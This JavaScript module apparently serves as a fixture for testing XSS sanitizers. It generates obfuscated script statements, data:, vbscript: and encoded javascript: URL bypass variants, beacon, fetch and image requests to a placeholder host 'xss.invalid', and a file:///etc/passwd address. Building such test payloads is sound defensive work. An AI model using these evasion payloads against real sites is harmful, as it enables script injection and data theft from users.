// What a payload does when a page runs it, and addresses that a page must not ask for.
//
// `__x` is planted in every page that is tested; an address below `/xss/` or at `xss.invalid` is nobody's.

export const HOST = 'xss.invalid';

const base64 = (text) => Buffer.from(text, 'utf8').toString('base64');
const codes = (text) => [...text].map((letter) => letter.codePointAt(0)).join();
const escapes = (text) => [...text].map((letter) => `\\u${letter.codePointAt(0).toString(16).padStart(4, '0')}`).join('');

const letters = (text) => `String.fromCharCode(${codes(text)})`;

/** Statements without quotes, angle brackets and spaces, so that they fit everywhere: a mark on the window, a dialog, a request. */
export const ACTIONS = [
  (id) => `__x(${id})`,
  (id) => `alert(${id})`,
  (id) => `top.__x(${id})`,
  (id) => `window[/__x/.source](${id})`,
  (id) => `${escapes('__x')}(${id})`,
  (id) => `__x\`${id}\``,
  (id) => `eval(${letters(`__x(${id})`)})`,
  (id) => `eval(/__x(${id})/.source)`,
  (id) => `[].constructor.constructor(/__x(${id})/.source)()`,
  (id) => `setTimeout(/__x(${id})/.source)`,
  (id) => `Reflect.apply(__x,null,[${id}])`,
  (id) => `(function(){throw(onerror=__x,${id})})()`,
  (id) => `location.href=${letters('//')}+/${HOST}/.source+${letters('/')}+${id}`,
  (id) => `fetch(${letters('/xss/')}+${id})`,
  (id) => `import(new(URL)(${letters('/xss/')}+${id},location))`,
  (id) => `navigator.sendBeacon(${letters('/xss/')}+${id},1)`,
  (id) => `new(Image)().src=${letters('//')}+/${HOST}/.source+${letters('/')}+${id}`,
  (id) => `document.title=/xss${id}/.source;__x(${id})`,
];

/** Addresses: another host, the same one, and spellings of both. */
export const ADDRESSES = [
  (id) => `https://${HOST}/${id}`,
  (id) => `//${HOST}/${id}`,
  (id) => `/xss/${id}`,
  (id) => `http://${HOST}:80/${id}?a=1&b=2`,
  (id) => `\\\\${HOST}\\${id}`,
  (id) => `/\\${HOST}/${id}`,
  (id) => `https:${HOST}/${id}`,
  (id) => `HTTPS://user:pw@${HOST.toUpperCase()}/${id}`,
  (id) => `https://${HOST}./${id}#x`,
  (id) => `ws://${HOST}/${id}`,
];

/** Addresses that would run a statement. */
export const SCHEMES = [
  (act) => `javascript:${act}`,
  (act) => `JaVaScRiPt:${act}`,
  (act) => ` javascript:${act}`,
  (act) => `java\tscript:${act}`,
  (act) => `java&Tab;script&colon;${act}`,
  (act) => `java&NewLine;script:${act}`,
  (act) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${act}`,
  (act) => `&#x6A;avascript&#x3A;${act}`,
  (act) => `&#0000106avascript:${act}`,
  (act) => `\u0001javascript:${act}`,
  (act) => `\u200bjavascript:${act}`,
  (act) => `\u202ejavascript:${act}`,
  (act) => `javascript&#58;${act}`,
  (act) => `javascript%3A${act}`,
  (act) => `javascript://%0a${act}`,
  (act) => `javascript:/*--></title></style></textarea>*/${act}`,
  (act) => `vbscript:${act}`,
  (act) => `livescript:${act}`,
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `data:text/html;base64,${base64(`<script>${act}</script>`)}`,
  (act) => `data:image/svg+xml,<svg onload=${act} xmlns=http://www.w3.org/2000/svg>`,
  (act) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"/>`)}`,
  (act) => `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${act}</script>`,
  (act) => `DATA:,${act}`,
  (act) => `feed:javascript:${act}`,
  (act) => `view-source:javascript:${act}`,
  (act) => `blob:null/${act}`,
  (act) => `filesystem:http://${HOST}/${act}`,
  () => 'file:///etc/passwd',
  (act) => `about:blank#${act}`,
  (act) => `intent://${HOST}/#Intent;scheme=javascript;S.x=${act};end`,
  (act) => `ｊａｖａｓｃｒｉｐｔ:${act}`,
  (act) => `java\u017fcript:${act}`,
  (act) => `\\x6aavascript:${act}`,
];
